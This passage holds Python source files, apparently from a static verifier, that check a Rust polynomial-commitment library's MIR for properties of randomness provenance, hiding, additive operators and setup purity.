    "the loops of the committers (and of what they call, KZG10::commit included) a variable holding scheme data that "
    "is carried from one iteration to the next is an accumulator read after the loop - a blinding polynomial drawn "
    "for one polynomial is never still in place when the next one is committed. KZG10::commit refuses with MissingRng when hiding is requested without a generator. R12: the hiding polynomial "
    "has degree hiding_bound + k with k >= 1 in both definitions. Independence and sufficiency of the randomness and the "
    "group identity 'commitment = plain + blinding' are not decided.")
RULE = ("instances = draw sites x provenance + committers x {rng reaches result, draws under hiding branch} + MissingRng "
        "row + 2 hiding-degree functions")

PC = T.PC
K = "kzg10::KZG10"
LP = "data_structures::LabeledPolynomial"
ALLOWED_SOURCES = {"rand::thread_rng": "E1: Hyrax commit under `parallel` draws from the OS-seeded thread generator "
                                       "(named in the property as the one feature-dependent site)"}
ALLOWED_AT = {"hyrax.commit"}
RNG_CARRIERS = ("as_mut", "unwrap", "expect", "ok_or", "as_deref_mut", "map", "take", "by_ref", "from", "into",
                "as_mut_ptr", "branch", "from_residual", "borrow_mut", "deref_mut", "unwrap_or_else")


PER_ELEMENT_ADAPTORS = ("map", "for_each", "try_for_each", "filter_map", "flat_map", "try_fold", "fold", "scan", "map_while")


def per_element_body(f, g, adt, bid, depth, seen):
    """the body runs once per element of some iteration: it is called from inside a loop, it is the closure of an
    iterator adaptor, or everything that calls it is such a body."""
    if bid in seen or depth > 4:
        return False
    seen.add(bid)
    bb = f.bodies[bid]
    callers = []
    for cb in g.scope:
        pb = f.bodies[cb]
        for ci, ct in pb.calls():
            if bid in f.call_targets(ct, adt) or ct.get("self_closure") == bid:
                if ci in RNG.cyclic_blocks(pb):
                    return True
                callers.append(cb)
        if bb.kind == "Closure":
            made = {st["dst"]["l"] for blk in pb.blocks for st in blk["stmts"]
                    if st["rv"].get("k") == "agg" and st["rv"].get("closure") == bid and not st["dst"]["p"]}
            if made and any((ct.get("callee") or "").rsplit("::", 1)[-1] in PER_ELEMENT_ADAPTORS and
                            any(a["k"] in ("copy", "move") and a["pl"]["l"] in made for a in ct["args"][1:])
                            for _, ct in pb.calls()):
                return True
    return bool(callers) and all(per_element_body(f, g, adt, cb, depth + 1, seen) for cb in set(callers))


def anchors(f):
    out = []
    S = T.SCHEMES
    out.append(("kzg10.commit", f.find1("commit", self_adt=K, trait=""), None, dict(rng=4, hiding=3), True))
    out.append(("kzg10.open", f.find1("open", self_adt=K, trait=""), None, dict(rand=4), False))
    for sk, optional in (("marlin_kzg10", True), ("sonic_kzg10", True), ("marlin_pst13", True), ("ipa", True), ("hyrax", False)):
        adt = S[sk]["adt"]
        out.append(("%s.commit" % sk, f.find1("commit", self_adt=adt, trait=PC), adt, dict(rng=T.ROLES["commit"]["rng"]), optional))
    for sk in ("ipa", "hyrax"):
        adt = S[sk]["adt"]
        out.append(("%s.open" % sk, f.find1("open", self_adt=adt, trait=PC), adt, dict(rng=T.ROLES["open"]["rng"]), False))
    return out


def generator_roots(g, bid, local):
    """backward over moves and Option / reference carriers: where does this generator come from?"""
    rev = LG._rev(g)
    seen = {(bid, local)}
    dq = deque([(bid, local)])
    creators = []
    while dq:
        n = dq.popleft()
        for (a, e) in rev.get(n, ()):
            if e.kind != DATA:
                continue
            if isinstance(a, tuple) and a[0] == "CALLRES":
                t = g.facts.bodies[a[1]].blocks[a[2]]["term"]
                nm = (t.get("callee") or "").rsplit("::", 1)[-1]
                if nm not in RNG_CARRIERS and not g.facts.call_targets(t, g.ctx_adt):
                    # a call that produces a generator without receiving one
                    args = [x["pl"]["l"] for x in t["args"] if x["k"] in ("copy", "move")]
                    if not any(RNG.is_rng_local(g.facts.bodies[a[1]], l) for l in args):
                        creators.append((a[1], a[2], t))
                continue
            if a in seen or not isinstance(a, tuple) or a[0] in ("FIELD",):
                continue
            ok = e.op in (MOVE, "field", "hof") or (e.op in ("foreign",) and LG._is_result_edge(g, e)
                                                     and LG._callee_name(g, e) in RNG_CARRIERS)
            if not ok:
                continue
            b = g.facts.bodies.get(a[0])
            if b is None or a[1] < 0:
                continue
            if not (RNG.is_rng_local(b, a[1]) or b.locals[a[1]].get("closure")):
                continue
            seen.add(a)
            dq.append(a)
    return seen, creators


def hiding_conditions(g, key, body, roles):
    """branch sites (body, block) whose condition tests whether the polynomial's hiding bound is Some:
    derived through a variant observation (discriminant read / is_some) of an Option that is a plain copy of
    LabeledPolynomial.hiding_bound (or of the hiding_bound parameter of KZG10::commit)."""
    f = g.facts
    starts = []
    n = ("FIELD", LP, "hiding_bound")
    if n in g.fwd:
        starts.append(n)
    if "hiding" in roles:
        starts.append((body.id, roles["hiding"]))
    # plain copies of the Option
    copies = set(starts)
    dq = deque(starts)
    while dq:
        x = dq.popleft()
        for e in g.fwd.get(x, ()):
            if e.kind != DATA or e.dst in copies or e.dst == OUTCOME:
                continue
            if e.op in (MOVE, "field", "hof") or (e.op == "foreign" and LG._is_result_edge(g, e) and
                                                  LG._callee_name(g, e) in ("clone", "as_ref", "copied", "cloned")):
                ty = g.node_ty(e.dst)
                if ty is None or "Option<usize>" in ty:
                    copies.add(e.dst)
                    dq.append(e.dst)
    seeds = set()
    for x in copies:
        for e in g.fwd.get(x, ()):
            if e.kind == DATA and e.op in (DISCR, "fieldshape") and e.dst != OUTCOME:
                seeds.add(e.dst)
    derived = LG.data_closure(g, seeds, limit=400)
    out = set()
    for (bid, blk, c) in LG.branch_conditions(g):
        if c in derived:
            out.add((bid, blk))
    return out


def transitive_cd(b):
    cd = b.control_deps()
    memo = {}

    def get(x):
        if x in memo:
            return memo[x]
        memo[x] = set()
        acc = set(cd.get(x, ()))
        for y in list(acc):
            if y != x:
                acc |= get(y)
        memo[x] = acc
        return acc
    return get


from ..rules.everyiter import bypass_of_block as bypass_of_draw  # noqa: E402


def bypass_loop_of(b, blk):
    """blocks of the innermost natural loop containing blk, or None."""
    succ, pred = b.succ(), b.pred()
    best = None
    for x in range(len(b.blocks)):
        for h in succ[x]:
            if not b.dominates(h, x):
                continue
            body = {h, x}
            st = [x]
            while st:
                y = st.pop()
                if y == h:
                    continue
                for z in pred[y]:
                    if z not in body:
                        body.add(z)
                        st.append(z)
            if blk in body and (best is None or len(body) < len(best)):
                best = body
    return best


ALWAYS_HIDING = {"hyrax.commit", "hyrax.open"}
SHIFTED_RAND = {"ipa.commit": "ipa_pc::data_structures::Randomness",
                "marlin_kzg10.commit": "marlin::marlin_pc::data_structures::Randomness"}


def run(rep, ctx, tier):
    f = ctx.facts
    n_draws = 0
    for key, body, adt, roles, optional in anchors(f):
        if body is None:
            rep.add("R10", "%s:anchor" % key, False, "entry point %s not found (fail closed)" % key, None)
            continue
        g = Graph(f, f.closure([body.id], adt), [body.id], adt)
        rng_live = None
        if "rng" in roles:
            rng_live, p = R1.reach_from(ctx, g, [(body.id, roles["rng"])])
        if "rand" in roles:
            ok, p = R1.reach_from(ctx, g, [(body.id, roles["rand"])])
            rep.add("R1", "%s:randomness->proof" % key, ok,
                    "commitment randomness %s the proof" % ("can influence" if ok else "cannot influence"), body.span)
        draws = RNG.draw_sites(f, g.scope, adt)
        n_draws += len(draws)
        hid = hiding_conditions(g, key, body, roles) if optional else set()
        per_body = {}
        secret = None
        for bid, blk, t in draws:
            k = per_body.get(bid, 0)
            per_body[bid] = k + 1
            b = f.bodies[bid]
            gens = [a["pl"]["l"] for a in t["args"] if a["k"] in ("copy", "move") and RNG.is_rng_local(b, a["pl"]["l"])]
            from_param = False
            bad_creators = []
            allowed = []
            for l in gens:
                roots, creators = generator_roots(g, bid, l)
                if "rng" in roles and (body.id, roles["rng"]) in roots:
                    from_param = True
                for (cb, ci, ct) in creators:
                    if (ct.get("callee") or "") in ALLOWED_SOURCES and key in ALLOWED_AT:
                        allowed.append(ct)
                    else:
                        bad_creators.append(ct)
            dk = "%s:draw@%s#%d" % (key, short(bid), k)
            if bad_creators:
                rep.add("R10", dk, False, "randomness drawn at %s comes from a generator created by %s at %s, not from the "
                        "caller's rng" % (t["span"], bad_creators[0].get("callee"), bad_creators[0]["span"]), t["span"])
            elif from_param or allowed:
                rep.add("R10", dk, True, "draw at %s uses %s" % (t["span"], "the caller's rng" if from_param else
                                                                 "allow-listed " + allowed[0]["callee"]), t["span"])
            else:
                rep.add("R10", dk, False, "randomness drawn at %s from a generator that is not derived from the rng "
                        "parameter of %s" % (t["span"], short(body.id)), t["span"])
            # R6h: how much randomness is drawn does not depend on the secret: no size operand of the draw is
            # data-derived from the polynomial itself (its degree, its coefficients) - only from the key, the point and
            # the declared bounds
            sizes = [a["pl"]["l"] for a in t["args"] if a["k"] in ("copy", "move") and a["pl"]["l"] not in gens]
            if sizes:
                if secret is None:
                    src = ("FIELD", LP, "polynomial")
                    secret = {s_[0] for s_ in g.reach([src], kinds=(DATA, ALIAS))} if src in g.fwd else set()
                leak = [l for l in sizes if (bid, l) in secret]
                rep.add("R6h", "%s:mask-size-independent@%s#%d" % (key, short(bid), k), not leak,
                        ("the size operand(s) of the draw at %s do not depend on the polynomial being hidden" % t["span"]) if not leak else
                        ("the amount of randomness drawn at %s is computed from the polynomial being hidden (its degree / "
                         "coefficients): the mask covers only what the secret occupies, and its size leaks it" % t["span"]), t["span"])
            if key in ALWAYS_HIDING:
                # R6d: where hiding is not optional no path completes a row / a polynomial / the call without the draw
                by = bypass_of_draw(b, blk)
                rep.add("R6d", "%s:draw-on-every-path@%s#%d" % (key, short(bid), k), by is None,
                        ("draw at %s lies on every non-refusing path of its %s" % (t["span"], "loop iteration" if blk in RNG.cyclic_blocks(b) else "body"))
                        if by is None else
                        ("the %s containing the draw at %s can complete without it (via %s): on those inputs the output "
                         "is not blinded" % ("loop iteration" if blk in RNG.cyclic_blocks(b) else "body", t["span"], by)), t["span"])
            if optional:
                # R6b: control dependent on a hiding-bound test in some body on the way to the draw
                lt = R5.leads_to(g, (bid, blk))
                ok = False
                for hb in lt:
                    hbody = f.bodies[hb]
                    conds = {x for (y, x) in hid if y == hb}
                    if not conds:
                        continue
                    succ = hbody.succ()
                    # every block through which control reaches the draw lies inside one arm of a hiding test
                    if all(any(any(t != c and hbody.dominates(t, u) for t in succ[c]) for c in conds) for u in lt[hb]):
                        ok = True
                        break
                rep.add("R6b", "%s:draw-under-hiding@%s#%d" % (key, short(bid), k), ok,
                        "draw at %s %s" % (t["span"], "happens only under a test of the hiding bound" if ok else
                                           "is not guarded by the polynomial's hiding bound: randomness is consumed "
                                           "(and the commitment blinded) on non-hiding paths"), t["span"])
        if key == "hyrax.open":
            # R6f: a proof assembled per polynomial is blinded with randomness drawn for that polynomial: every draw
            # that flows into a HyraxProof literal sitting in a loop lies in that loop too
            PROOF = "hyrax::data_structures::HyraxProof"
            per_item = []
            for bid in sorted(g.scope):
                bb = f.bodies[bid]
                cyc = RNG.cyclic_blocks(bb)
                for i, blk in enumerate(bb.blocks):
                    for st in blk["stmts"]:
                        rv = st["rv"]
                        if rv.get("k") == "agg" and rv.get("adt") == PROOF and i in cyc:
                            loop = bypass_loop_of(bb, i)
                            per_item.append((bid, i, loop, [(bid, o["pl"]["l"]) for o in rv["ops"] if o["k"] in ("copy", "move")]))
            if not per_item:
                # the loop body may have been made a function: a literal in a helper that is called from inside a
                # loop is assembled once per iteration of that loop, and one invocation of the helper is the "loop body"
                for bid in sorted(g.scope):
                    bb = f.bodies[bid]
                    if bid == body.id:
                        continue
                    lits = [(i, st["rv"]) for i, blk in enumerate(bb.blocks) for st in blk["stmts"]
                            if st["rv"].get("k") == "agg" and st["rv"].get("adt") == PROOF]
                    if not lits:
                        continue
                    in_loop = per_element_body(f, g, adt, bid, 0, set())
                    if in_loop:
                        for i, rv in lits:
                            per_item.append((bid, i, set(range(len(bb.blocks))),
                                             [(bid, o["pl"]["l"]) for o in rv["ops"] if o["k"] in ("copy", "move")]))
            if not per_item:
                rep.add("R6f", "%s:fresh-per-polynomial" % key, False, "no HyraxProof literal inside a loop found in open (fail closed)", body.span)
            stale = None
            for (dbid, dblk, t) in draws:
                res = ("CALLRES", dbid, dblk)
                reached = {s_[0] for s_ in g.reach([res], kinds=(DATA,), typed=False)}
                lead = R5.leads_to(g, (dbid, dblk))       # where control is, in each caller, when the draw happens
                for (abid, ablk, loop, ops) in per_item:
                    if not any(o in reached for o in ops):
                        continue
                    at = lead.get(abid, set())
                    if loop is None or not at or not all(x in loop for x in at):
                        stale = t["span"]
            if per_item:
                rep.add("R6f", "%s:fresh-per-polynomial" % key, stale is None,
                        "every draw that blinds a per-polynomial proof is made inside the per-polynomial loop" if stale is None else
                        "the randomness drawn at %s blinds the proofs of all polynomials of one call: it is drawn once, outside "
                        "the loop that assembles them" % stale, stale or body.span)
        if key in SHIFTED_RAND:
            # R6g: the blinding of the shifted commitment is drawn on its own: nothing read from the `rand` field of the
            # commitment randomness flows into what is stored as its `shifted_rand`
            radt = SHIFTED_RAND[key]
            src = ("FIELD", radt, "rand")
            reached = {s_[0] for s_ in g.reach([src], kinds=(DATA,), typed=False)} if src in g.fwd else set()
            reuse = None
            stores = 0
            for bid in sorted(g.scope):
                bb = f.bodies[bid]
                for blk in bb.blocks:
                    for st in blk["stmts"]:
                        rv = st["rv"]
                        ops = []
                        if any(isinstance(e, dict) and e.get("n") == "shifted_rand" and e.get("adt") == radt for e in st["dst"]["p"]):
                            ops = [o for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
                        elif rv.get("k") == "agg" and rv.get("adt") == radt and "shifted_rand" in (rv.get("fields") or []):
                            o = rv["ops"][rv["fields"].index("shifted_rand")]
                            ops = [o] if o["k"] in ("copy", "move") else []
                        for o in ops:
                            stores += 1
                            if (bid, o["pl"]["l"]) in reached:
                                reuse = "%s:%s" % (bb.file(), st.get("line"))
                    t = blk["term"]
                    if t["k"] == "call" and any(isinstance(e, dict) and e.get("n") == "shifted_rand" and e.get("adt") == radt for e in t["dst"]["p"]):
                        stores += 1
                        if any(a["k"] in ("copy", "move") and (bid, a["pl"]["l"]) in reached for a in t["args"]):
                            reuse = t["span"]
            rep.add("R6g", "%s:shifted-rand-independent" % key, reuse is None,
                    "nothing read from `rand` flows into what is stored as `shifted_rand` (%d store sites)" % stores if reuse is None else
                    "the value stored as `shifted_rand` at %s is computed from the `rand` field: the two commitments of one "
                    "polynomial share their blinding" % reuse, reuse or body.span)
        if rng_live is not None:
            e1 = []
            for (dbid, dblk, t) in draws:
                db = f.bodies[dbid]
                for x in t["args"]:
                    if x["k"] in ("copy", "move") and RNG.is_rng_local(db, x["pl"]["l"]):
                        for (_cb, _ci, ct) in generator_roots(g, dbid, x["pl"]["l"])[1]:
                            if (ct.get("callee") or "") in ALLOWED_SOURCES and key in ALLOWED_AT:
                                e1.append(t)
            if not rng_live and e1:
                rep.add("R1", "%s:rng->result" % key, True,
                        "exception E1: in this configuration every draw uses the allow-listed OS-seeded generator (%s); "
                        "the rng parameter is unused" % ALLOWED_SOURCES["rand::thread_rng"], body.span, nontrivial=False)
            else:
                rep.add("R1", "%s:rng->result" % key, rng_live,
                        "rng parameter %s the returned value" % ("can influence" if rng_live else "cannot influence"), body.span)
    # R1p: each polynomial of a commit call is committed from a clean slate - a working variable holding scheme data
    # (the blinding polynomial, the commitment under construction) does not survive into the next polynomial
    from ..rules import carried as R1P
    n_loops = n_carried = 0
    for key, body, adt, roles, optional in anchors(f):
        if body is not None and (key.endswith(".commit") or key == "hyrax.open") and adt is not None:
            nl, nc = R1P.run(rep, ctx, key, [body.id], adt, "R1p", stop=tuple(x for x in R1P.STOP if x not in ("commit", "rand")))
            n_loops += nl
            n_carried += nc
    rep.count("R1p loops", n_loops)
    if n_loops < 3 or n_carried < 4:
        rep.add("R1p", "per-item-fresh:floor", False, "only %d loops / %d carried variables found in the committers "
                "(fail closed)" % (n_loops, n_carried), None)
    rep.count("draw_sites", n_draws)
    if n_draws < 6:
        rep.add("R10", "floor", False, "only %d draw sites found in the hiding committers/provers (floor 6; fail closed)" % n_draws, None)
    # R5 MissingRng
    b = f.find1("commit", self_adt=K, trait="")
    if b is not None:
        R5.check_row(rep, ctx, "R5", "kzg10.commit", b, None, ["MissingRng"], [[3], [4]])
    # R12 hiding polynomial degree
    found = 0
    for body in f.bodies.values():
        if body.kind != "Closure" and body.name == "calculate_hiding_polynomial_degree":
            found += 1
            ok, detail = affine_plus_k(body)
            rep.add("R12", "hiding-degree:%s" % (body.self_adt or body.id), ok, detail, body.span)
    if found < 2:
        rep.add("R12", "hiding-degree:floor", False, "expected two calculate_hiding_polynomial_degree definitions, found %d" % found, None)


def affine_plus_k(body):
    """the function returns its parameter plus a constant k >= 1 (nothing else)."""
    consts = []
    other = []
    for blk in body.blocks:
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            rv = st["rv"]
            k = rv["k"]
            if k == "binop":
                ops = rv["ops"]
                cs = [o.get("val") for o in ops if o["k"] == "const"]
                if rv["op"] in ("Add", "AddWithOverflow", "AddUnchecked") and len(cs) == 1 and cs[0] is not None:
                    consts.append(cs[0])
                else:
                    other.append(rv["op"])
            elif k in ("use", "ref", "agg"):
                continue
            else:
                other.append(k)
        t = blk["term"]
        if t["k"] == "call":
            other.append("call " + (t.get("callee") or "?"))
    if other:
        return False, "hiding polynomial degree is not of the form hiding_bound + k (found %s): undecided, fail closed" % other[:3]
    if len(consts) != 1:
        return False, "hiding polynomial degree is not hiding_bound + k (additions: %s)" % consts
    if consts[0] < 1:
        return False, "hiding polynomial degree is hiding_bound + %d: fewer than hiding_bound + 2 random coefficients" % consts[0]
    return True, "hiding polynomial degree = hiding_bound + %d" % consts[0]
