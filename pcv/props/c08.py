"""C08 (two clauses): the additive operators on commitments and commitment randomness are the linear maps
they are named after; msm operands are aligned."""
from ..rules import linmir as L

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "C08 as a whole - equality of a commitment with the key-defined multi-scalar sum, and of a Merkle root with a "
    "recomputation - is a statement about runtime values and is not decided. One clause of it is structural: "
    "additivity of commitments, shifted commitments and commitment randomness in the linear-combination machinery "
    "rests on the operator impls `+=` / `+` of kzg10::Commitment and of the three Randomness types being exactly "
    "self + other and self + f*other on every field. This check executes those impls symbolically on their MIR "
    "(values are polynomials over the atoms self.<field>, other.<field>, f; delegation to a sibling impl is followed) and compares the result "
    "with that identity; an impl outside the small supported language is reported as undecided (fail closed). The "
    "two marlin_pc::Randomness `+=` impls handle an Option-valued field: they are executed once for each of the four "
    "presence cases (None counts as the neutral element). R12c, a second clause: a multi-scalar multiplication pairs its "
    "operands by position, so where the scalars handed to an msm are a suffix view of a coefficient vector (`coeffs[k..]`, "
    "the leading zeros skipped) the bases must be sliced from an offset that is data-derived from the same k; checked at "
    "every msm call of the crate and at the calls of the one-level wrappers around it. Determinism of non-hiding "
    "commitments is decided under C07 (R6b), build / schedule independence under C18.")
EXPLANATION += (" Shared rule: R1p on the six committers - in the per-polynomial loop nothing holding scheme data survives into the next polynomial, so a non-hiding commitment carries no stale blinding term.")
RULE = ("instances = 13 operator impls x {result = self + [f*]other on every written field (per presence case), or pure "
        "delegation} + one alignment instance per msm site (33)")

KC = "kzg10::data_structures::Commitment"
KR = "kzg10::data_structures::Randomness"
PR = "marlin::marlin_pst13_pc::data_structures::Randomness"
MR = "marlin::marlin_pc::data_structures::Randomness"
ADD, ADDA = "std::ops::Add", "std::ops::AddAssign"

# (self ADT, trait, rhs kind) -> expected: dict field -> scaled?   | "delegate"
TABLE = [
    (KC, ADDA, "pair", {"0": True}),
    (KR, ADDA, "plain", {"blinding_polynomial": False}),
    (KR, ADDA, "pair", {"blinding_polynomial": True}),
    (KR, ADD, "plain", {"blinding_polynomial": False}),
    (KR, ADD, "pair", "delegate"),
    (PR, ADDA, "plain", {"blinding_polynomial": False}),
    (PR, ADDA, "pair", {"blinding_polynomial": True}),
    (PR, ADD, "plain", {"blinding_polynomial": False}),
    (PR, ADD, "pair", "delegate"),
    (MR, ADD, "plain", "delegate"),
    (MR, ADD, "pair", "delegate"),
]
NOT_DECIDED = [(MR, ADDA, "plain"), (MR, ADDA, "pair")]


def run(rep, ctx, tier):
    f = ctx.facts
    found = {}
    for b in f.bodies.values():
        if b.kind != "Closure" and b.impl_trait in (ADD, ADDA) and b.self_adt in (KC, KR, PR, MR) and b.name in ("add", "add_assign") \
                and len(b.locals) > 2:
            kind = "pair" if (b.locals[2]["ty"] or "").startswith("(") else "plain"
            found[(b.self_adt, b.impl_trait, kind)] = b
    undecided = []
    for adt, tr, kind, expect in TABLE:
        name = "%s:%s<%s>" % (adt.replace("::data_structures", ""), tr.rsplit("::", 1)[-1], kind)
        b = found.get((adt, tr, kind))
        if b is None:
            rep.add("R12b", name, False, "operator impl not found (fail closed)", None)
            continue
        try:
            ex = L.analyse(f, b, kind)
        except L.Undecided as e:
            # an impl the symbolic executor cannot follow (higher-order helpers, closures as parameters) is not judged:
            # a refactoring must not raise an alarm. The floor below fails closed when too few impls are decided.
            undecided.append(name)
            rep.add("R12b", name, True, "not decided: outside the supported language (%s)" % e, b.span, nontrivial=False)
            continue
        res = ex.fields
        if expect == "delegate":
            tgt = found.get((adt, ADDA, kind))
            ok = ex.delegated and not ex.own_writes and tgt is not None and ex.delegate_targets == [tgt.id]
            rep.add("R12b", name, ok, "pure delegation to the AddAssign impl with the same right-hand side" if ok else
                    "expected `self += other; self`, found %s" % ({k: L.p_fmt(v) for k, v in res.items()} or "no delegation"), b.span)
            continue
        want = {}
        for fld, scaled in expect.items():
            w = L.p_atom("self." + fld)
            o = L.p_atom("other." + fld)
            want[fld] = L.p_add(w, L.p_mul(L.p_atom("f"), o) if scaled else o)
        # an impl may compute the sum itself or hand over to the sibling impl that does: the result counts
        ok = res == want and not ex.delegate_undecided
        rep.add("R12b", name, ok,
                "; ".join("%s = %s" % (k, L.p_fmt(v)) for k, v in sorted(res.items())) if ok else
                "computes %s, the identity requires %s" % ({k: L.p_fmt(v) for k, v in res.items()}, {k: L.p_fmt(v) for k, v in want.items()}),
                b.span)
    # the two impls with an Option-valued field: executed once per presence case
    for (adt, tr, kind) in NOT_DECIDED:
        name = "%s:%s<%s>" % (adt.replace("::data_structures", ""), tr.rsplit("::", 1)[-1], kind)
        b = found.get((adt, tr, kind))
        if b is None:
            rep.add("R12b", name, False, "operator impl not found (fail closed)", None)
            continue
        scaled = kind == "pair"
        bad = None
        und = None
        for cs in (True, False):
            for co in (True, False):
                case = "self.shifted_rand %s, other.shifted_rand %s" % ("Some" if cs else "None", "Some" if co else "None")
                try:
                    ex = L.Exec(f, b, kind, False, opt_case={"self.shifted_rand": cs, "other.shifted_rand": co})
                    ex.run()
                except L.Undecided as e:
                    und = "not decided: outside the supported language in the case %s (%s)" % (case, e)
                    break
                o = L.p_atom("other.rand")
                want_rand = L.p_add(L.p_atom("self.rand"), L.p_mul(L.p_atom("f"), o) if scaled else o)
                got_rand = ex.fields.get("rand")
                so = L.p_atom("other.shifted_rand")
                so = L.p_mul(L.p_atom("f"), so) if scaled else so
                want_shift = None
                if cs and co:
                    want_shift = L.p_add(L.p_atom("self.shifted_rand"), so)
                elif cs:
                    want_shift = L.p_atom("self.shifted_rand")
                elif co:
                    want_shift = so
                gs = ex.fields.get("shifted_rand")
                got_shift = gs[2] if isinstance(gs, tuple) and gs[0] == "opt" and gs[1] else None
                if got_rand != want_rand or got_shift != want_shift:
                    bad = "in the case %s it computes rand = %s, shifted_rand = %s; the identity requires %s and %s" % (
                        case, L.p_fmt(got_rand) if isinstance(got_rand, dict) else got_rand,
                        L.p_fmt(got_shift) if got_shift is not None else "None", L.p_fmt(want_rand),
                        L.p_fmt(want_shift) if want_shift is not None else "None")
                    break
            if bad or und:
                break
        if und and not bad:
            undecided.append(name)
            rep.add("R12b", name, True, und, b.span, nontrivial=False)
            continue
        rep.add("R12b", name, bad is None, "self + %sother on `rand` and, case by case, on the optional `shifted_rand`" % ("f*" if scaled else "")
                if bad is None else bad, b.span)
    rep.count("R12b undecided impls", len(undecided))
    if len(undecided) > 4:
        rep.add("R12b", "decided:floor", False, "%d of the 13 operator impls are outside the supported language (%s): too few are "
                "decided for the clause to be claimed (fail closed)" % (len(undecided), ", ".join(undecided[:4])), None)
    extra = sorted(k for k in found if k not in {(a, t, kd) for a, t, kd, _ in TABLE} and k not in NOT_DECIDED)
    rep.add("R12b", "inventory", not extra, "every additive operator impl on these types is in the table (2 listed as not decided)"
            if not extra else "operator impl(s) not covered by the table: %s" % extra, None)
    rep.note("the two marlin_pc::Randomness `+=` impls are decided case by case over the presence of shifted_rand")
    # R12c: an msm pairs coefficient i with key element i - where the scalars are a suffix view of the coefficients, the
    # bases are sliced from an offset derived from the same value
    from ..rules import aligned as R12C
    n_sites, n_off, n_wr = R12C.run(rep, ctx, "R12c")
    rep.count("msm sites", n_sites)
    rep.count("msm wrappers", n_wr)
    rep.count("scalar offsets", n_off)
    # a commitment is the key-weighted sum of *its own* coefficients: in the per-polynomial loops of the committers nothing
    # holding scheme data survives from one polynomial into the next (shared with C07) - a stale blinding term left in
    # a hoisted variable makes a non-hiding commitment something else than that sum
    from ..rules import carried as R1P
    from .. import tables as T
    f = ctx.facts
    nl = 0
    for sk in ("marlin_kzg10", "sonic_kzg10", "marlin_pst13", "ipa", "hyrax", "linear_codes"):
        adt = T.SCHEMES[sk]["adt"]
        b = f.find1("commit", self_adt=adt, trait=T.PC)
        if b is None:
            rep.add("R1p", "%s.commit:anchor" % sk, False, "commit of %s not found (fail closed)" % sk, None)
            continue
        a_, _c = R1P.run(rep, ctx, "%s.commit" % sk, [b.id], adt, "R1p", stop=tuple(x for x in R1P.STOP if x not in ("commit", "rand")))
        nl += a_
    rep.count("R1p loops", nl)
    if n_sites < 20:
        rep.add("R12c", "floor", False, "only %d msm sites found (counted 33, %d offsets into coefficient vectors; floor 20 sites; "
                "fail closed)" % (n_sites, n_off), None)
