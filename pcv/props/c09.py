"""C09: setup and trim - transparency, purity and refusals."""
from .. import tables as T
from ..flow import Graph, OUTCOME
from ..engine import short
from ..rules import influence as R1
from ..rules import refusal as R5
from ..rules import rng as RNG

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static rules over MIR. R2 (transparency): in the transparent setups (IPA, Hyrax) the rng parameter cannot "
    "influence the returned parameters - generators are derived deterministically. R2/R10 (purity of trim): no draw "
    "of randomness and no call that produces a fresh group generator is reachable from any `trim`, so every group "
    "element of a trimmed key can only come from the universal parameters. R5: out-of-range requests are refused "
    "(TrimmingDegreeTooLarge depending on both the parameters and the requested degree in the four degree-based trims, "
    "Sonic's bound check, InvalidParameters in the linear-code setup/trim, DegreeIsZero / InvalidNumberOfVariables in "
    "the KZG10 and PST13 setups, the aborting assertions of MultilinearPC). R5p: in the trims that take a list of "
    "enforced bounds no refusal condition is computed from first()/last() of the caller's own (unsorted) list - "
    "only of a sorted copy or of every element. R9n: in every literal of a key / parameter type, a field that is an "
    "exact copy of a field of another crate struct which has a like-named field is a copy of that like-named field "
    "(`beta_h: pp.beta_h`, never `beta_h: pp.h`) - 153 such copies in 35 literals today, no deviant one. R1p: in the "
    "loops of `trim` and `prepare` that run over (a part of) a parameter, a carried variable holding scheme data is an "
    "accumulator read after the loop - the table built for one enforced bound does not start from what the previous "
    "bound left in a scratch buffer. Positive controls: the same detectors must "
    "find a draw and a generator() call in KZG10::setup. Pairing consistency of the SRS, exact power windows and the "
    "doubling tables are runtime facts and are not decided.")
EXPLANATION += (" Shared rule: R17 on the trims - what is de-duplicated has been sorted, and the tables that are binary-searched later are sorted where they are built.")
RULE = ("instances = 2 transparency rows + 7 trims x {no draw, no fresh generator} + refusal rows + positive controls + "
        "one name-agreement instance per key literal")

PC = T.PC
K = "kzg10::KZG10"
ML = "multilinear_pc::MultilinearPC"
FRESH_GENERATORS = {"generator", "prime_subgroup_generator", "rand", "from_random_bytes", "hash_to_curve"}


def run(rep, ctx, tier):
    f = ctx.facts
    S = T.SCHEMES
    # R2 transparency
    for sk in ("ipa", "hyrax"):
        adt = S[sk]["adt"]
        b = f.find1("setup", self_adt=adt, trait=PC)
        key = "%s.setup" % sk
        if b is None:
            rep.add("R2", "%s:anchor" % key, False, "%s not found (fail closed)" % key, None)
            continue
        g = Graph(f, f.closure([b.id], adt), [b.id], adt)
        ok, p = R1.reach_from(ctx, g, [(b.id, T.ROLES["setup"]["rng"])])
        rep.add("R2", "%s:transparent" % key, not ok,
                "the rng parameter cannot influence the returned parameters" if not ok else
                "the rng parameter can influence the returned parameters of a transparent setup: %s" % R1._fmt_path(g, p), b.span)
        draws = RNG.draw_sites(f, g.scope, adt)
        rep.add("R2", "%s:no-draw" % key, not draws,
                "no randomness is drawn in the transparent setup" if not draws else
                "randomness is drawn at %s in a transparent setup" % draws[0][2]["span"], draws[0][2]["span"] if draws else b.span)
    # R9n: a key field copied from a like-named field of the parameters (or of another key) is copied from that field
    from ..rules import nameagree as R9N
    n_sites, n_same = R9N.run(rep, ctx, "R9n")
    rep.count("R9n key literals", n_sites)
    rep.count("R9n like-named copies", n_same)
    if n_sites < 20 or n_same < 80:
        rep.add("R9n", "floor", False, "only %d key literals with %d like-named field copies found (counted 35 / 153; fail closed)" % (n_sites, n_same), None)
    # R1p: the per-bound / per-power work of `trim` and `prepare` starts from a clean slate for every element: in their
    # loops over (a part of) a parameter, a carried variable holding scheme data is an accumulator read after the loop
    from ..rules import carried as R1P
    nl = nc = 0
    for b in sorted(f.bodies.values(), key=lambda x: x.id):
        if b.kind != "Closure" and b.name in ("prepare", "trim") and b.span and (b.impl_trait or b.self_adt):
            a, c_ = R1P.run(rep, ctx, "%s@%s" % (b.name, (b.self_adt or "?").replace("::data_structures", "").rsplit("::", 1)[-1] + ("" if b.impl_trait else "(inherent)")),
